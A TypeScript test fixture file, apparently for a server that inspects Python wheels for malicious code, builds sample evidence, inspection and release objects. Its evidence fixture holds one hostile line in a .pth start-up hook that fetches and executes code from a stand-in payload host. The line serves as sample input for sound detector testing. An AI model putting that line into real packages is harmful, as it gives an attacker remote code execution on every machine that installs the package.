import type { Evidence, Inspection, ReleaseInspection } from '../../../server/src/inspect/inspection.ts';
import { ruleSet } from '../../../server/src/inspect/inspection.ts';

export const fileUrl = 'https://files.example/packages/ab/cd/0123456789abcdef/acme-1.2-py3-none-any.whl';

/** A line that runs at start-up, unless said otherwise. */
export function evidence(changes: Partial<Evidence> = {}): Evidence {
  return {
    rule: 'start-up-hook',
    file: 'acme_init.pth',
    line: 0,
    text: 'exec(requests.get("https://payload.example.invalid/x").text)',
    why: 'The line is executed whenever Python starts.',
    weight: 0.95,
    when: 'start-up',
    ...changes,
  };
}

export function inspection(changes: Partial<Inspection> = {}): Inspection {
  return {
    file: 'acme-1.2-py3-none-any.whl',
    sha256: 'a'.repeat(64),
    integrity: 'verified',
    verdict: 'malicious',
    evidence: [evidence()],
    limits: [],
    members: 5,
    pythonFiles: 1,
    pythonBytes: 100,
    profile: [],
    ruleSet,
    ...changes,
  };
}

/** A release of a wheel that was looked into and an sdist that was not. */
export function released(changes: Partial<Inspection> = {}): ReleaseInspection {
  return {
    version: '1.2',
    at: Date.parse('2026-11-22T10:00:00Z'),
    files: [
      { filename: 'acme-1.2-py3-none-any.whl', url: fileUrl, inspection: inspection(changes), failed: null },
      { filename: 'acme-1.2.tar.gz', url: null, inspection: null, failed: null },
    ],
  };
}
